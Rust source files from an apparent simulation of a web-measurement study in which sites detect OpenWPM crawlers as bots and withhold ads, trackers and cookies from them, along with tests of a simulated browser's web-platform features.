    TypeParams { rt: ResourceType::MainFrame, mean_milli: 1_660, withhold_pm: 0, noise_pm: 30, classes: [900, 0, 0, 100] },
    TypeParams { rt: ResourceType::Media, mean_milli: 360, withhold_pm: 0, noise_pm: 350, classes: [500, 200, 0, 300] },
    TypeParams { rt: ResourceType::WebSocket, mean_milli: 220, withhold_pm: 0, noise_pm: 160, classes: [600, 0, 200, 200] },
    TypeParams { rt: ResourceType::Other, mean_milli: 64, withhold_pm: 0, noise_pm: 300, classes: [700, 0, 0, 300] },
    TypeParams { rt: ResourceType::Object, mean_milli: 34, withhold_pm: 0, noise_pm: 200, classes: [800, 0, 0, 200] },
];

/// Cookie-layer parameters (Table 10 per-site means).
const FIRST_PARTY_COOKIES_MILLI: u32 = 20_000; // 20.0 / site
const THIRD_PARTY_COOKIES_MILLI: u32 = 19_100; // non-tracking third party
const TRACKING_COOKIES_MILLI: u32 = 2_890; // 2.89 / site for humans
const FIRST_PARTY_WITHHOLD_PM: u32 = 33;
const THIRD_PARTY_WITHHOLD_PM: u32 = 52;

/// Escalation factors (per mille) applied to withholding when the site
/// re-identified the client as a bot in an earlier run. Requests escalate
/// faster than cookies (calibrated to the r1→r3 amplification of
/// Tables 8–10: totals +1.9→+5.3%, tracking cookies +42→+60%).
fn request_escalation_pm(run: u32, flagged_before: bool) -> u32 {
    if !flagged_before || run <= 1 {
        1000
    } else {
        1000 + 500 * (run - 1)
    }
}

fn cookie_escalation_pm(run: u32, flagged_before: bool) -> u32 {
    if !flagged_before || run <= 1 {
        1000
    } else {
        1000 + 160 * (run - 1)
    }
}

/// `count × pm / 1000` with probabilistic rounding of the fractional part,
/// so small per-site counts still feel small rates in aggregate.
fn scaled_count(count: u32, pm: u32, h: u64) -> u32 {
    let exact = count as u64 * pm as u64;
    (exact / 1000 + u64::from(h % 1000 < exact % 1000)) as u32
}

fn splitmix(mut x: u64) -> u64 {
    x = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
    x = (x ^ (x >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    x ^ (x >> 31)
}

/// Deterministic count with mean `mean_milli / 1000`: shared across clients
/// for a `(site, run, type)`, plus client-local noise.
fn sample_count(plan: &SitePlan, run: u32, salt: u64, mean_milli: u32, noise_pm: u32, client_tag: u64) -> u32 {
    let shared = splitmix(plan.site_seed ^ (run as u64) << 32 ^ salt);
    let base = mean_milli / 1000;
    let frac = mean_milli % 1000;
    let mut count = base + u32::from((shared % 1000) < frac as u64);
    // Shared site-level variation ±20%.
    let site_var = (shared >> 17) % 400;
    count = (count as u64 * (800 + site_var) / 1000) as u32;
    if noise_pm > 0 && client_tag != 0 {
        // Client-local ad-rotation noise: magnitude drawn in ±noise_pm,
        // applied with probabilistic rounding so small counts jitter too.
        let n = splitmix(plan.site_seed ^ client_tag ^ (run as u64) ^ salt.rotate_left(7));
        let jitter_pm = (n % (2 * noise_pm as u64 + 1)) as i64 - noise_pm as i64;
        let delta = scaled_count(count, jitter_pm.unsigned_abs() as u32, splitmix(n)) as i64;
        count = (count as i64 + if jitter_pm < 0 { -delta } else { delta }).max(0) as u32;
    }
    count
}

/// Ad and tracker host pools (these are what the generated EasyList /
/// EasyPrivacy lists cover — see [`crate::blocklists`]).
pub const AD_DOMAINS: &[&str] = &[
    "adsafeprotected.com",
    "moatads.com",
    "webgains.io",
    "teads.tv",
    "mgid.com",
    "mxcdn.net",
    "doubleclick.example",
    "adnexus.example",
    "popads.example",
    "bannerfarm.example",
];

pub const TRACKER_DOMAINS: &[&str] = &[
    "yandex.ru",
    "crazyegg.com",
    "metrics.example",
    "pixeltrack.example",
    "sessioncam.example",
    "heatmap.example",
    "audiencesync.example",
    "idgraph.example",
];

pub const BENIGN_THIRD_DOMAINS: &[&str] = &[
    "jsdelivr.net",
    "intercomcdn.com",
    "fonts.example",
    "cdnstatic.example",
    "imgcache.example",
];

fn pick_domain(class: DomainClass, plan: &SitePlan, nonce: u64) -> String {
    let idx = (nonce % 97) as usize;
    match class {
        DomainClass::FirstParty => plan.domain.clone(),
        DomainClass::Ad => AD_DOMAINS[idx % AD_DOMAINS.len()].to_owned(),
        DomainClass::Tracker => TRACKER_DOMAINS[idx % TRACKER_DOMAINS.len()].to_owned(),
        DomainClass::Benign => BENIGN_THIRD_DOMAINS[idx % BENIGN_THIRD_DOMAINS.len()].to_owned(),
    }
}

fn class_for_draw(classes: &[u32; 4], draw: u32) -> DomainClass {
    let d = draw % 1000;
    if d < classes[0] {
        DomainClass::FirstParty
    } else if d < classes[0] + classes[1] {
        DomainClass::Ad
    } else if d < classes[0] + classes[1] + classes[2] {
        DomainClass::Tracker
    } else {
        DomainClass::Benign
    }
}

/// Generate the site's adaptive response for a visit.
///
/// * `run` — 1-based repetition index (the paper's r1/r2/r3);
/// * `client_tag` — stable per-client identity (the "IP address"); drives
///   client-unique tracking-cookie values and rotation noise;
/// * `flagged_now` — the site's bot verdict for this visit;
/// * `flagged_before` — whether this site flagged this client in an earlier
///   run (re-identification memory; only sites with
///   `cloak.reidentifies` escalate on it).
pub fn site_response(
    plan: &SitePlan,
    run: u32,
    client_tag: u64,
    flagged_now: bool,
    flagged_before: bool,
) -> SiteResponse {
    let mut resp = SiteResponse::default();
    let esc = request_escalation_pm(run, flagged_before && plan.cloak.reidentifies);
    let cookie_esc = cookie_escalation_pm(run, flagged_before && plan.cloak.reidentifies);

    // ---- requests ----
    for (ti, p) in CONTENT.iter().enumerate() {
        let count = sample_count(plan, run, 0xA0 + ti as u64, p.mean_milli, p.noise_pm, client_tag);
        let withheld = if flagged_now {
            let pm = (p.withhold_pm as u64 * esc as u64 / 1000).min(900) as u32;
            scaled_count(count, pm, splitmix(plan.site_seed ^ salt_of(ti, 0xFFFF) ^ run as u64))
        } else {
            0
        };
        let served = count.saturating_sub(withheld);
        // The withheld tail is a proportionate slice of the engagement
        // layer — ad/tracker over-representation emerges from the *types*
        // that get withheld (beacons and XHR are tracker-heavy), matching
        // Table 9's moderate blocklist deltas.
        let mut classes: Vec<(u64, DomainClass)> = (0..count)
            .map(|k| {
                let d = splitmix(plan.site_seed ^ salt_of(ti, k) ^ (run as u64) << 40);
                let class = class_for_draw(&p.classes, (d % 1000) as u32);
                (splitmix(d) % 1000, class)
            })
            .collect();
        classes.sort_by_key(|(key, _)| *key);
        for (k, (_, class)) in classes.into_iter().take(served as usize).enumerate() {
            let host = pick_domain(class, plan, splitmix(plan.site_seed ^ salt_of(ti, k as u32)));
            let path = match class {
                DomainClass::Ad => format!("/ads/slot{k}.{}", ext(p.rt)),
                DomainClass::Tracker => format!("/collect/t{k}.{}", ext(p.rt)),
                _ => format!("/static/r{k}.{}", ext(p.rt)),
            };
            resp.extra_requests.push((format!("https://{host}{path}"), p.rt));
        }
    }

    // ---- cookies ----
    let push_cookies = |mean_milli: u32,
                            withhold_pm: u32,
                            third: bool,
                            tracking: bool,
                            resp: &mut SiteResponse| {
        let salt = 0xC0 + u64::from(third) + 2 * u64::from(tracking);
        let count = sample_count(plan, run, salt, mean_milli, 0, client_tag);
        let withheld = if flagged_now {
            let pm = (withhold_pm as u64 * cookie_esc as u64 / 1000).min(800) as u32;
            scaled_count(count, pm, splitmix(plan.site_seed ^ salt ^ run as u64))
        } else {
            0
        };
        for k in withheld..count {
            let domain = if third {
                let pool = if tracking { TRACKER_DOMAINS } else { BENIGN_THIRD_DOMAINS };
                let d = splitmix(plan.site_seed ^ salt ^ k as u64);
                pool[(d % pool.len() as u64) as usize].to_owned()
            } else {
                plan.domain.clone()
            };
            let (name, value, expires) = if tracking {
                // Per-client, per-run identifier: long, long-living, and
                // dissimilar across runs — the Chen/Englehardt criteria.
                let id = splitmix(client_tag ^ plan.site_seed ^ ((run as u64) << 48) ^ k as u64);
                (
                    format!("uid{k}"),
                    format!("{id:016x}{:08x}", splitmix(id) as u32),
                    Some(180 * 24 * 3600),
                )
            } else {
                let persistent = splitmix(plan.site_seed ^ k as u64).is_multiple_of(2);
                (
                    format!("c{k}"),
                    format!("v{}", splitmix(plan.site_seed ^ k as u64) % 100_000),
                    if persistent { Some(30 * 24 * 3600) } else { None },
                )
            };
            resp.cookies.push(Cookie {
                name,
                value,
                domain,
                page_domain: plan.domain.clone(),
                expires_in_s: expires,
            });
        }
    };
    push_cookies(FIRST_PARTY_COOKIES_MILLI, FIRST_PARTY_WITHHOLD_PM, false, false, &mut resp);
    push_cookies(THIRD_PARTY_COOKIES_MILLI, THIRD_PARTY_WITHHOLD_PM, true, false, &mut resp);
    push_cookies(
        TRACKING_COOKIES_MILLI,
        plan.cloak.tracking_withhold_pm,
        true,
        true,
        &mut resp,
    );
    resp
}

fn salt_of(type_index: usize, k: u32) -> u64 {
    (type_index as u64) << 32 | k as u64
}

fn ext(rt: ResourceType) -> &'static str {
    match rt {
        ResourceType::Image | ResourceType::ImageSet => "png",
        ResourceType::Script => "js",
        ResourceType::Stylesheet => "css",
        ResourceType::Font => "woff2",
        ResourceType::Media => "mp4",
        _ => "bin",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::site::Population;

    fn plan() -> SitePlan {
        Population::new(100_000, 1).plan(123)
    }

    #[test]
    fn unflagged_response_is_client_stable_modulo_noise() {
        let p = plan();
        let a = site_response(&p, 1, 0xAAAA, false, false);
        let b = site_response(&p, 1, 0xAAAA, false, false);
        assert_eq!(a.extra_requests.len(), b.extra_requests.len());
        assert_eq!(a.cookies.len(), b.cookies.len());
    }

    #[test]
    fn flagged_client_receives_less() {
        let p = plan();
        let human = site_response(&p, 1, 0xAAAA, false, false);
        let bot = site_response(&p, 1, 0xAAAA, true, false);
        assert!(bot.extra_requests.len() < human.extra_requests.len());
        assert!(bot.cookies.len() <= human.cookies.len());
    }

    #[test]
    fn escalation_reduces_further_on_later_runs() {
        // Average across many sites (single-site counts are too noisy).
        let pop = Population::new(100_000, 1);
        let total = |run: u32, before: bool| -> usize {
            (0..200)
                .map(|r| {
                    let p = pop.plan(r);
                    site_response(&p, run, 0xAAAA, true, before).extra_requests.len()
                })
                .sum()
        };
        assert!(
            total(3, true) < total(1, false),
            "escalated runs must withhold more"
        );
    }

    #[test]
    fn tracking_cookie_values_differ_per_client_and_run() {
        let p = plan();
        let a = site_response(&p, 1, 0xAAAA, false, false);
        let b = site_response(&p, 1, 0xBBBB, false, false);
        let c = site_response(&p, 2, 0xAAAA, false, false);
        let uid = |r: &SiteResponse| {
            r.cookies.iter().find(|c| c.name.starts_with("uid")).map(|c| c.value.clone())
        };
        let (ua, ub, uc) = (uid(&a), uid(&b), uid(&c));
        if let (Some(ua), Some(ub)) = (&ua, &ub) {
            assert_ne!(ua, ub, "tracking ids must differ per client");
        }
        if let (Some(ua), Some(uc)) = (&ua, &uc) {
            assert_ne!(ua, uc, "tracking ids must differ per run");
        }
    }

    #[test]
    fn request_mix_contains_ads_and_trackers() {
        let p = plan();
        let r = site_response(&p, 1, 0xAAAA, false, false);
        let ads = r
            .extra_requests
            .iter()
            .filter(|(u, _)| AD_DOMAINS.iter().any(|d| u.contains(d)))
            .count();
        let total = r.extra_requests.len();
        assert!(total > 50, "total {total}");
        let share = ads as f64 / total as f64;
        assert!((0.05..0.30).contains(&share), "ad share {share}");
    }

    #[test]
    fn withheld_requests_overrepresent_ads_and_trackers() {
        let pop = Population::new(100_000, 1);
        let mut human_ads = 0usize;
        let mut bot_ads = 0usize;
        let mut human_total = 0usize;
        let mut bot_total = 0usize;
        for r in 0..100 {
            let p = pop.plan(r);
            let is_adtracker = |u: &str| {
                AD_DOMAINS.iter().chain(TRACKER_DOMAINS).any(|d| u.contains(d))
            };
            let h = site_response(&p, 1, 0xAAAA, false, false);
            let b = site_response(&p, 1, 0xAAAA, true, false);
            human_ads += h.extra_requests.iter().filter(|(u, _)| is_adtracker(u)).count();
            bot_ads += b.extra_requests.iter().filter(|(u, _)| is_adtracker(u)).count();
            human_total += h.extra_requests.len();
            bot_total += b.extra_requests.len();
        }
        let removed_total = human_total - bot_total;
        let removed_ads = human_ads - bot_ads;
        // The withheld mass comes from tracker-heavy types (beacons, XHR),
        // so ad/tracker share of removals exceeds their overall share.
        let overall_share = human_ads as f64 / human_total as f64;
        let removed_share = removed_ads as f64 / removed_total.max(1) as f64;
        assert!(
            removed_share > overall_share,
            "withheld tail should over-represent ads/trackers: {removed_share:.3} vs {overall_share:.3}"
        );
    }
}
