//! Turn a [`SitePlan`] into concrete [`VisitSpec`]s: script sources, URLs,
//! CSP — everything the OpenWPM browser needs to actually visit the site.

use std::collections::HashMap;
use std::sync::{Arc, Mutex, OnceLock};

use browser::CspPolicy;
use detect::corpus;
use netsim::HttpRequest;
use openwpm::{PageScript, VisitSpec};

use crate::providers::FirstPartyOrigin;
use crate::site::SitePlan;

/// Process-wide memo of materialised script bodies, keyed by the generator
/// parameters. Repeat visits of a site (front page, subpages, supervisor
/// retries) and distinct sites served by the same provider all alias one
/// `Arc<str>`, so the jsengine compile cache sees one body per unique
/// generation, not one per visit. Grows without eviction, bounded by the
/// number of unique (generator, parameter) pairs in the population.
fn memo() -> &'static Mutex<HashMap<String, Arc<str>>> {
    static MEMO: OnceLock<Mutex<HashMap<String, Arc<str>>>> = OnceLock::new();
    MEMO.get_or_init(|| Mutex::new(HashMap::new()))
}

/// Look up (or build and remember) one script body. The builder runs
/// outside the lock; a racing first materialisation keeps whichever entry
/// landed first so every caller still shares one allocation.
fn memoised(key: String, build: impl FnOnce() -> String) -> Arc<str> {
    if let Some(hit) = memo().lock().unwrap().get(&key) {
        return hit.clone();
    }
    let built: Arc<str> = Arc::from(build());
    memo().lock().unwrap().entry(key).or_insert(built).clone()
}

/// Number of distinct script bodies materialised so far in this process.
pub fn materialised_bodies() -> usize {
    memo().lock().unwrap().len()
}

/// The page of a site being visited.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum PageKind {
    Front,
    /// 0-based subpage index.
    Subpage(u32),
}

/// Build the visit spec for one page of the site.
pub fn visit_spec(plan: &SitePlan, page: PageKind) -> VisitSpec {
    let _ph = obs::prof::enter(&obs::prof::WEBGEN_MATERIALISE);
    let url = match page {
        PageKind::Front => plan.front_url(),
        PageKind::Subpage(i) => plan.subpage_url(i),
    };
    let mut scripts = Vec::new();

    // Every page carries a generic first-party application script.
    scripts.push(PageScript {
        url: format!("https://{}/js/site.js", plan.domain),
        source: memoised("site-js".into(), || {
            "var pageReady = true;\nfunction track(x) { return x; }\ntrack(pageReady);\n"
                .to_owned()
        }),
        content_type: "text/javascript".into(),
    });

    let detectors = match page {
        PageKind::Front => &plan.front,
        PageKind::Subpage(_) => &plan.subpage,
    };
    for (domain, technique) in &detectors.third_party {
        scripts.push(PageScript {
            url: format!("https://{domain}/bd/detect.js"),
            source: memoised(format!("selenium\u{1f}{technique:?}\u{1f}{domain}"), || {
                corpus::selenium_detector(*technique, &format!("https://{domain}/bd/verdict"))
            }),
            content_type: "text/javascript".into(),
        });
    }

    // First-party bot management and OpenWPM-specific detectors run on the
    // front page (and, being site-wide services, on subpages too).
    if let Some(origin) = plan.first_party {
        let path = origin.script_path(plan.site_seed);
        scripts.push(PageScript {
            url: format!("https://{}{}", plan.domain, path),
            source: memoised(format!("first-party\u{1f}{}", plan.domain), || {
                corpus::first_party_detector(&format!("https://{}/bd/fp-verdict", plan.domain))
            }),
            content_type: "text/javascript".into(),
        });
        // PerimeterX-style deep probes also exercise the iframe channel.
        if origin == FirstPartyOrigin::PerimeterX {
            scripts.push(PageScript {
                url: format!("https://{}/px/deep.js", plan.domain),
                source: memoised(format!("iframe-probe\u{1f}{}", plan.domain), || {
                    corpus::iframe_probe_detector(&format!(
                        "https://{}/bd/fp-verdict",
                        plan.domain
                    ))
                }),
                content_type: "text/javascript".into(),
            });
        }
    }
    if let Some(provider) = plan.openwpm_provider {
        scripts.push(PageScript {
            url: format!("https://{}/tag.js", provider.domain),
            source: memoised(format!("openwpm\u{1f}{}", provider.domain), || {
                corpus::openwpm_detector(
                    provider.props,
                    provider.technique,
                    &format!("https://{}/owpm/verdict", provider.domain),
                )
            }),
            content_type: "text/javascript".into(),
        });
    }

    // Front-page-only extras.
    if matches!(page, PageKind::Front) {
        if plan.benign_mention {
            scripts.push(PageScript {
                url: format!("https://{}/js/integrations.js", plan.domain),
                source: memoised("benign-mention".into(), corpus::benign_webdriver_mention),
                content_type: "text/javascript".into(),
            });
        }
        if plan.iterator {
            scripts.push(PageScript {
                url: "https://fpcdn.example/fp.js".into(),
                source: memoised("fp-iterator".into(), || {
                    corpus::fingerprint_iterator("https://fpcdn.example/collect")
                }),
                content_type: "text/javascript".into(),
            });
        }
        // A slice of the web runs canvas fingerprinting — touches
        // instrumented APIs without being a bot detector.
        if plan.site_seed.is_multiple_of(5) {
            scripts.push(PageScript {
                url: "https://fpcdn.example/canvas.js".into(),
                source: memoised("canvas-fp".into(), || {
                    corpus::canvas_fingerprinter("https://fpcdn.example/cv")
                }),
                content_type: "text/javascript".into(),
            });
        }
    }

    VisitSpec {
        url: url.to_string(),
        csp: if plan.strict_csp {
            Some(CspPolicy::strict(&format!("https://{}/csp-report", plan.domain)))
        } else {
            None
        },
        scripts,
        server_resources: Vec::new(),
        static_requests: Vec::new(),
        dwell_override_s: None,
    }
}

/// Did any detector on the page flag the client? (Beacon verdicts carry
/// `bot=1`.)
pub fn verdict_from_traffic(traffic: &[HttpRequest]) -> bool {
    traffic.iter().any(|r| {
        r.resource_type == netsim::ResourceType::Beacon
            && (r.url.query.contains("bot=1") || r.url.query.starts_with("bot=1"))
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::site::Population;

    #[test]
    fn front_spec_contains_expected_scripts() {
        let pop = Population::new(100_000, 5);
        // Find a site with a third-party detector.
        let plan = (0..100_000)
            .map(|r| pop.plan(r))
            .find(|p| !p.front.third_party.is_empty())
            .unwrap();
        let spec = visit_spec(&plan, PageKind::Front);
        assert!(spec.url.starts_with("https://"));
        assert!(spec.scripts.iter().any(|s| s.url.ends_with("/bd/detect.js")));
        assert!(spec.scripts.iter().any(|s| s.url.ends_with("/js/site.js")));
    }

    #[test]
    fn first_party_script_url_follows_origin_pattern() {
        let pop = Population::new(100_000, 5);
        let plan = (0..100_000)
            .map(|r| pop.plan(r))
            .find(|p| p.first_party == Some(FirstPartyOrigin::Akamai))
            .unwrap();
        let spec = visit_spec(&plan, PageKind::Front);
        assert!(
            spec.scripts.iter().any(|s| s.url.contains("/akam/11/")),
            "urls: {:?}",
            spec.scripts.iter().map(|s| &s.url).collect::<Vec<_>>()
        );
    }

    #[test]
    fn subpage_spec_uses_subpage_url() {
        let pop = Population::new(1_000, 5);
        let plan = pop.plan(3);
        let spec = visit_spec(&plan, PageKind::Subpage(1));
        assert!(spec.url.contains("/page2.html"));
    }

    #[test]
    fn strict_csp_plans_get_policies() {
        let pop = Population::new(100_000, 5);
        let plan = (0..100_000).map(|r| pop.plan(r)).find(|p| p.strict_csp).unwrap();
        let spec = visit_spec(&plan, PageKind::Front);
        assert!(spec.csp.is_some());
    }

    /// Materialising the same plan twice (or its subpages) must alias the
    /// same body allocations, not rebuild them.
    #[test]
    fn repeated_materialisation_shares_script_bodies() {
        let pop = Population::new(100_000, 5);
        let plan = (0..100_000)
            .map(|r| pop.plan(r))
            .find(|p| !p.front.third_party.is_empty() && p.first_party.is_some())
            .unwrap();
        let a = visit_spec(&plan, PageKind::Front);
        let b = visit_spec(&plan, PageKind::Front);
        assert_eq!(a.scripts.len(), b.scripts.len());
        for (sa, sb) in a.scripts.iter().zip(&b.scripts) {
            assert!(
                Arc::ptr_eq(&sa.source, &sb.source),
                "{} rebuilt instead of memoised",
                sa.url
            );
        }
        assert!(materialised_bodies() >= a.scripts.len());
    }

    #[test]
    fn verdict_parsing() {
        use netsim::{ResourceType, Url};
        let req = |q: &str, rt: ResourceType| HttpRequest {
            url: Url::parse(&format!("https://bd.test/v?{q}")).unwrap(),
            page: Url::parse("https://s.test/").unwrap(),
            resource_type: rt,
            method: "POST",
            time_ms: 0,
        };
        assert!(verdict_from_traffic(&[req("bot=1", ResourceType::Beacon)]));
        assert!(!verdict_from_traffic(&[req("bot=0", ResourceType::Beacon)]));
        assert!(!verdict_from_traffic(&[req("bot=1", ResourceType::Image)]));
    }
}
