//! Integration tests for the browser's web-platform surface: events, DOM
//! creation, fetch, Date, fonts, frames and window plumbing.

use browser::{CspPolicy, FingerprintProfile, FrameContext, Os, Page, RunMode};
use jsengine::Value;
use netsim::{ResourceType, Url};

fn page() -> Page {
    Page::new(
        FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular),
        Url::parse("https://host.test/app").unwrap(),
        None,
    )
}

fn stock() -> Page {
    Page::new(
        FingerprintProfile::stock_firefox(Os::Ubuntu1804),
        Url::parse("https://host.test/app").unwrap(),
        None,
    )
}

#[test]
fn event_listeners_receive_dispatched_events() {
    let mut p = page();
    let v = p
        .run_script((
            r#"
            var got = [];
            document.addEventListener('ping', function (ev) { got.push(ev.detail); });
            document.dispatchEvent(new CustomEvent('ping', { detail: 'a' }));
            document.dispatchEvent(new CustomEvent('ping', { detail: 'b' }));
            document.dispatchEvent(new CustomEvent('other', { detail: 'c' }));
            got.join(',')
            "#,
            "t",
        ))
        .unwrap();
    assert_eq!(v.as_str().unwrap(), "a,b");
}

#[test]
fn remove_event_listener_works() {
    let mut p = page();
    let v = p
        .run_script((
            r#"
            var count = 0;
            function handler() { count++; }
            document.addEventListener('x', handler);
            document.dispatchEvent(new CustomEvent('x'));
            document.removeEventListener('x', handler);
            document.dispatchEvent(new CustomEvent('x'));
            count
            "#,
            "t",
        ))
        .unwrap();
    assert_eq!(v, Value::Num(1.0));
}

#[test]
fn iframe_creation_contexts_are_tracked() {
    let mut p = page();
    p.run_script((
        r#"
        var f = document.createElement('iframe');
        document.body.appendChild(f);
        window.open('https://popup.test/');
        document.write('<iframe src="x.html"></iframe>');
        "#,
        "t",
    ))
    .unwrap();
    let frames = p.frames();
    assert_eq!(frames.len(), 3);
    let contexts: Vec<FrameContext> = frames.iter().map(|(_, c)| *c).collect();
    assert!(contexts.contains(&FrameContext::IframeAppend));
    assert!(contexts.contains(&FrameContext::WindowOpen));
    assert!(contexts.contains(&FrameContext::DocumentWrite));
}

#[test]
fn content_window_is_a_fresh_clean_realm() {
    let mut p = page();
    let v = p
        .run_script((
            r#"
            window.marker = 'parent';
            var f = document.createElement('iframe');
            document.body.appendChild(f);
            var w = f.contentWindow;
            [w === window, typeof w.marker, typeof w.navigator, w.navigator === navigator].join(',')
            "#,
            "t",
        ))
        .unwrap();
    assert_eq!(v.as_str().unwrap(), "false,undefined,object,false");
}

#[test]
fn frames_array_exposes_children() {
    let mut p = page();
    let v = p
        .run_script((
            r#"
            var f = document.createElement('iframe');
            document.body.appendChild(f);
            [window.frames.length, window.frames[0] === f.contentWindow].join(',')
            "#,
            "t",
        ))
        .unwrap();
    assert_eq!(v.as_str().unwrap(), "1,true");
}

#[test]
fn fetch_records_traffic_and_resolves() {
    let mut p = page();
    p.add_server_resource("https://api.test/data", "application/json", "{\"k\":1}");
    let v = p
        .run_script((
            r#"
            var body = null;
            fetch('https://api.test/data')
                .then(function (r) { return r.text(); })
                .then(function (t) { body = t; });
            body
            "#,
            "t",
        ))
        .unwrap();
    assert_eq!(v.as_str().unwrap(), "{\"k\":1}");
    let traffic = p.traffic();
    assert_eq!(traffic.len(), 1);
    assert_eq!(traffic[0].resource_type, ResourceType::XmlHttpRequest);
    assert_eq!(traffic[0].url.host, "api.test");
}

#[test]
fn fetch_missing_resource_is_404() {
    let mut p = page();
    let v = p
        .run_script((
            "var st = 0; fetch('https://nowhere.test/x').then(function (r) { st = r.status; }); st",
            "t",
        ))
        .unwrap();
    assert_eq!(v, Value::Num(404.0));
}

#[test]
fn send_beacon_records_beacon_traffic() {
    let mut p = page();
    p.run_script(("navigator.sendBeacon('https://collect.test/b?x=1');", "t")).unwrap();
    let traffic = p.traffic();
    assert_eq!(traffic.len(), 1);
    assert_eq!(traffic[0].resource_type, ResourceType::Beacon);
    assert_eq!(traffic[0].method, "POST");
}

#[test]
fn dynamic_script_elements_fetch_and_execute() {
    let mut p = page();
    p.add_server_resource("https://cdn.test/lib.js", "text/javascript", "window.libLoaded = 7;");
    p.run_script((
        r#"
        var s = document.createElement('script');
        s.src = 'https://cdn.test/lib.js';
        document.head.appendChild(s);
        "#,
        "t",
    ))
    .unwrap();
    let v = p.run_script(("window.libLoaded", "t")).unwrap();
    assert_eq!(v, Value::Num(7.0));
    assert!(p.traffic().iter().any(|r| r.resource_type == ResourceType::Script));
}

#[test]
fn date_reflects_profile_timezone() {
    let mut regular = page();
    let v = regular.run_script(("new Date().getTimezoneOffset()", "t")).unwrap();
    assert_eq!(v, Value::Num(-120.0));
    let mut docker = Page::new(
        FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Docker),
        Url::parse("https://host.test/").unwrap(),
        None,
    );
    let v = docker.run_script(("new Date().getTimezoneOffset()", "t")).unwrap();
    assert_eq!(v, Value::Num(0.0));
}

#[test]
fn date_now_advances_with_virtual_time() {
    let mut p = page();
    let t0 = p.run_script(("Date.now()", "t")).unwrap().to_number();
    p.advance(5_000);
    let t1 = p.run_script(("Date.now()", "t")).unwrap().to_number();
    assert_eq!(t1 - t0, 5_000.0);
}

#[test]
fn fonts_check_reflects_profile() {
    let mut p = page();
    let v = p
        .run_script((
            "[document.fonts.check('12px Arial'), document.fonts.check('12px NoSuchFont')].join(',')",
            "t",
        ))
        .unwrap();
    assert_eq!(v.as_str().unwrap(), "true,false");
    let mut docker = Page::new(
        FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Docker),
        Url::parse("https://host.test/").unwrap(),
        None,
    );
    let v = docker
        .run_script((
            "[document.fonts.check('12px Arial'), document.fonts.check('12px Bitstream Vera Sans Mono')].join(',')",
            "t",
        ))
        .unwrap();
    assert_eq!(v.as_str().unwrap(), "false,true");
}

#[test]
fn location_reflects_page_url() {
    let mut p = page();
    let v = p
        .run_script(("[location.host, location.pathname, location.protocol].join(' ')", "t"))
        .unwrap();
    assert_eq!(v.as_str().unwrap(), "host.test /app https:");
}

#[test]
fn document_cookie_roundtrip() {
    let mut p = page();
    let v = p
        .run_script((
            "document.cookie = 'a=1'; document.cookie = 'b=2'; document.cookie",
            "t",
        ))
        .unwrap();
    assert_eq!(v.as_str().unwrap(), "a=1; b=2");
}

#[test]
fn headless_has_no_webgl_but_stock_does() {
    let mut headless = Page::new(
        FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Headless),
        Url::parse("https://host.test/").unwrap(),
        None,
    );
    let v = headless
        .run_script(("document.createElement('canvas').getContext('webgl') === null", "t"))
        .unwrap();
    assert_eq!(v, Value::Bool(true));
    let mut s = stock();
    let v = s
        .run_script((
            "document.createElement('canvas').getContext('webgl').getParameter(37445)",
            "t",
        ))
        .unwrap();
    assert_eq!(v.as_str().unwrap(), "AMD");
}

#[test]
fn illegal_invocation_on_prototype_getters() {
    let mut p = page();
    let v = p
        .run_script((
            r#"
            var threw = 0;
            try { Object.getOwnPropertyDescriptor(Navigator.prototype, 'userAgent').get.call({}); }
            catch (e) { threw++; }
            try { Object.getOwnPropertyDescriptor(Screen.prototype, 'width').get.call(navigator); }
            catch (e) { threw++; }
            threw
            "#,
            "t",
        ))
        .unwrap();
    assert_eq!(v, Value::Num(2.0));
}

#[test]
fn interaction_fires_document_listeners() {
    let mut p = page();
    p.run_script((
        "var fired = 0; document.addEventListener('mouseover', function () { fired++; });",
        "t",
    ))
    .unwrap();
    p.simulate_interaction("mouseover");
    p.simulate_interaction("click"); // no listener: no effect
    let v = p.run_script(("fired", "t")).unwrap();
    assert_eq!(v, Value::Num(1.0));
}

#[test]
fn csp_only_blocks_injection_not_page_scripts() {
    let mut p = Page::new(
        FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular),
        Url::parse("https://host.test/").unwrap(),
        Some(CspPolicy::strict("/report")),
    );
    // Page's own scripts run fine.
    let v = p.run_script(("1 + 1", "site.js")).unwrap();
    assert_eq!(v, Value::Num(2.0));
    // Injection is refused.
    assert!(p.dom_inject_script(("window.x = 1;", "inject")).is_err());
}

#[test]
fn storage_roundtrip() {
    let mut p = page();
    let v = p
        .run_script((
            r#"
            localStorage.setItem('uid', 'abc123');
            var a = localStorage.getItem('uid');
            var missing = localStorage.getItem('nope');
            localStorage.removeItem('uid');
            var gone = localStorage.getItem('uid');
            [a, missing === null, gone === null].join(',')
            "#,
            "t",
        ))
        .unwrap();
    assert_eq!(v.as_str().unwrap(), "abc123,true,true");
}

#[test]
fn session_and_local_storage_are_distinct() {
    let mut p = page();
    let v = p
        .run_script((
            r#"
            localStorage.setItem('k', 'local');
            sessionStorage.setItem('k', 'session');
            [localStorage.getItem('k'), sessionStorage.getItem('k')].join(',')
            "#,
            "t",
        ))
        .unwrap();
    assert_eq!(v.as_str().unwrap(), "local,session");
}

#[test]
fn window_chrome_only_on_chromium_family() {
    let mut ff = stock();
    let v = ff.run_script(("typeof window.chrome", "t")).unwrap();
    assert_eq!(v.as_str().unwrap(), "undefined");
    let mut cr = Page::new(
        FingerprintProfile::stock_chrome(Os::Ubuntu1804),
        Url::parse("https://host.test/").unwrap(),
        None,
    );
    let v = cr.run_script(("typeof window.chrome === 'object' && typeof window.chrome.runtime === 'object'", "t")).unwrap();
    assert_eq!(v, Value::Bool(true));
}

#[test]
fn hardware_concurrency_exposed() {
    let mut p = page();
    let v = p.run_script(("navigator.hardwareConcurrency", "t")).unwrap();
    assert_eq!(v, Value::Num(8.0));
}
