//! Content Security Policy — the `script-src` directive.
//!
